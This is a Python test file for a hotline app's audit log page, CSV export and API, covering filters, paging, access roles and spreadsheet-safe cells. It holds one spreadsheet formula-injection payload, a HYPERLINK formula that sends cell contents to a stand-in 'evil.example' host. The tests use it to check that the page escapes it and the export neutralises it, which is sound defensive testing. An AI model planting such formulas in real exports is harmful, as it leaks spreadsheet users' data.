"""The audit log page, its CSV export and its API: filters, keyset pages of 100, the
action in words, changes as before -> after, spreadsheet-safe cells; admins and managers
read it, nobody else."""
import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import select

from hotline.audit.models import AuditEvent
from hotline.core.extensions import db
from hotline.tickets.models import Ticket

T0 = datetime(2026, 11, 20, 2, 0, tzinfo=UTC)  # 10:00 in the center (UTC+8)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _entry(**fields) -> AuditEvent:
    fields.setdefault("at", T0)
    fields.setdefault("actor_name", "Admin One")
    entry = AuditEvent(**fields)
    db.session.add(entry)
    return entry


@pytest.fixture
def log(app, users, api):
    """A small log: user and token changes, a reveal on a ticket, a failed sign-in with
    a formula for a name, over three days. (Made in an app context of its own: one held
    open through the test would keep the first request's language for every request.)"""
    ticket = api("operator").post("/api/v1/tickets", json={
        "category": "repair", "matter": "Tap drips", "caller": {"phone": "13800138000"}}).json
    with app.app_context():
        ticket["id"] = db.session.scalar(select(Ticket.id).where(Ticket.number == ticket["number"]))
        _entry(action="user.create", actor_id=users["admin"], target_type="user", target_id=str(users["crew"]),
               detail={"role": [None, "crew"], "display_name": [None, "Crew One"]}, ip="10.0.0.5")
        _entry(action="user.deactivate", actor_id=users["admin"], target_type="user", target_id=str(users["crew"]),
               at=T0 + timedelta(days=1), detail={"active": [True, False]})
        _entry(action="token.revoke", actor_id=users["admin"], target_type="api_token", target_id="7",
               at=T0 + timedelta(days=1))
        _entry(action="caller.reveal", actor_id=users["supervisor"], actor_name="Supervisor One", ticket_id=ticket["id"],
               reason="Caller rang back about the leak", at=T0 + timedelta(days=2))
        _entry(action="auth.sign_in_failed", actor_id=None, actor_name=HYPERLINK, reason=HYPERLINK, ip="203.0.113.9",
               at=T0 + timedelta(days=2, hours=1))
        db.session.commit()
    return {"ticket": ticket["number"], "ticket_id": ticket["id"]}


@pytest.fixture
def reader(session_client):
    """reader(role) -> a client signed in through the form that reads English."""

    def make(role):
        client, _ = session_client(role)
        client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "en"
        return client

    return make


def _rows(html: str) -> int:
    return html.count("data-entry=")


def test_the_page_shows_entries_newest_first_in_words(reader, log):
    client = reader("admin")
    # The fixtures' own tokens and sign-ins are audited too, today: the log's days only.
    r = client.get("/audit?to=2026-11-22")
    html = r.get_data(as_text=True)
    assert r.status_code == 200 and r.headers["Cache-Control"] == "no-store"
    assert _rows(html) == 5
    assert html.index("Sign-in failed") < html.index("Confidential caller revealed") < html.index("User created")
    assert "2026-11-20 10:00:00" in html  # center time
    assert f'href="/tickets/{log["ticket"]}"' in html
    assert "Caller rang back about the leak" in html
    assert '<span class="before">yes</span> → <span class="after">no</span>' in html
    assert "10.0.0.5" in html
    assert "=HYPERLINK" in html and "<a href=\"http://evil" not in html  # shown as text, escaped


@pytest.mark.parametrize("query,expected", [
    ("action=user.", {"user.create", "user.deactivate"}),
    ("action=user.create", {"user.create"}),
    ("action=user.c", {"user.create"}),
    ("actor=supervisor", {"caller.reveal"}),  # the username
    ("actor=Supervisor On", {"caller.reveal"}),  # part of the name
    ("actor=hyperlink", {"auth.sign_in_failed"}),
    ("target_type=api_token&target_id=7", {"token.revoke"}),
    ("target_type=user", {"user.create", "user.deactivate"}),
    ("from=2026-11-21T00:00:00%2B08:00&to=2026-11-22T00:00:00%2B08:00", {"user.deactivate", "token.revoke"}),
    ("from=2026-11-22T00:00:00%2B08:00", {"caller.reveal", "auth.sign_in_failed"}),
    ("to=2026-11-21T00:00:00%2B08:00", {"user.create"}),
    ("action=nothing.", set()),
])
def test_filters(api, log, query, expected):
    if "to=" not in query:  # the fixtures' own tokens and sign-ins, today, are audited too
        query += "&to=2026-11-23T00:00:00%2B08:00"
    r = api("admin").get("/api/v1/audit?" + query)
    assert r.status_code == 200, r.json
    assert {e["action"] for e in r.json["items"]} == expected


def test_page_filters_by_day_and_ticket(reader, log):
    client = reader("manager")
    assert _rows(client.get("/audit?from=2026-11-21&to=2026-11-21").get_data(as_text=True)) == 2
    for ticket in (log["ticket"], str(log["ticket_id"])):
        html = client.get(f"/audit?ticket={ticket}").get_data(as_text=True)
        assert _rows(html) == 1 and "Confidential caller revealed" in html
    assert _rows(client.get("/audit?ticket=19990101-0001").get_data(as_text=True)) == 0


@pytest.mark.parametrize("query", ["from=2026-13-01", "from=2026-11-22&to=2026-11-21", "before=0", "before=99999999999999999999",
                                   "from=0001-01-01", "to=9999-12-31", "ticket=" + "x" * 41])
def test_bad_filters_are_form_errors(reader, api, log, query):
    client = reader("admin")
    r = client.get("/audit?" + query)
    assert r.status_code == 422 and 'class="field-error"' in r.get_data(as_text=True)
    assert api("admin").get("/api/v1/audit?" + query).status_code == 422
    assert client.get("/audit.csv?" + query).status_code == 422


def test_keyset_pages_of_a_hundred(app, users, reader, api):
    with app.app_context():
        for i in range(230):
            _entry(action="settings.update", target_type="setting", target_id=str(i), at=T0 + timedelta(seconds=i))
        db.session.commit()
    seen, before, pages = [], None, 0
    while True:
        r = api("manager").get("/api/v1/audit?action=settings." + (f"&before={before}" if before else ""))
        assert r.status_code == 200 and r.headers["Cache-Control"] == "no-store"
        seen += [int(e["target_id"]) for e in r.json["items"]]
        pages += 1
        before = r.json["next_before"]
        if before is None:
            break
    assert pages == 3 and seen == list(range(229, -1, -1))
    client = reader("admin")
    html = client.get("/audit?action=settings.").get_data(as_text=True)
    assert _rows(html) == 100 and 'rel="next"' in html
    first_page_last = html.split('data-entry="')[100].split('"')[0]
    older = client.get(f"/audit?action=settings.&before={first_page_last}").get_data(as_text=True)
    assert _rows(older) == 100 and f'data-entry="{first_page_last}"' not in older


def test_csv_export_is_formula_safe_and_audited(reader, log):
    client = reader("manager")
    r = client.get("/audit.csv?action=auth.&to=2026-11-22")  # not the manager's own sign-in today
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert r.headers["Content-Disposition"].startswith("attachment;")
    assert r.headers["Cache-Control"] == "no-store"
    text = r.get_data(as_text=True)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header, body = rows[0], rows[1:]
    assert len(body) == 1
    row = dict(zip(header, body[0]))
    assert row["Actor"] == "'" + HYPERLINK and row["Reason"] == "'" + HYPERLINK
    assert row["Action"] == "Sign-in failed" and row["Code"] == "auth.sign_in_failed"
    assert row["Time"] == "2026-11-22 11:00:00" and row["Address"] == "203.0.113.9"
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in body for cell in line)
    # The export itself is in the log, with its filters and who took it.
    export = client.get("/audit?action=audit.export").get_data(as_text=True)
    assert _rows(export) == 1 and "Manager One" in export and "auth." in export


def test_csv_of_changes_reads_before_and_after(reader, log):
    client = reader("admin")
    text = client.get("/audit.csv?action=user.deactivate").get_data(as_text=True)
    row = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))[0]
    assert row["Detail"] == "active: True → False" and row["Acted on"] == "user"


def test_api_entries_match_the_document(api, log, client):
    from jsonschema import Draft202012Validator

    doc = client.get("/api/openapi.json").json
    schema = doc["paths"]["/api/v1/audit"]["get"]["responses"]["200"]["content"]["application/json"]["schema"]
    body = api("admin").get("/api/v1/audit").json
    assert not list(Draft202012Validator({**schema, "components": doc["components"]}).iter_errors(body))
    reveal = next(e for e in body["items"] if e["action"] == "caller.reveal")
    assert reveal["ticket"] == log["ticket"] and reveal["actor_username"] == "supervisor"


def test_who_may_read_it(reader, api, log):
    for role in ("manager", "admin"):
        client = reader(role)
        assert client.get("/audit").status_code == 200
        assert 'href="/audit"' in client.get("/audit").get_data(as_text=True)  # in the top bar
    for role in ("operator", "dispatcher", "supervisor", "crew"):
        client = reader(role)
        assert client.get("/audit").status_code == 403
        assert client.get("/audit.csv").status_code == 403
        assert api(role).get("/api/v1/audit").status_code == 403
        assert 'href="/audit"' not in client.get("/settings").get_data(as_text=True)
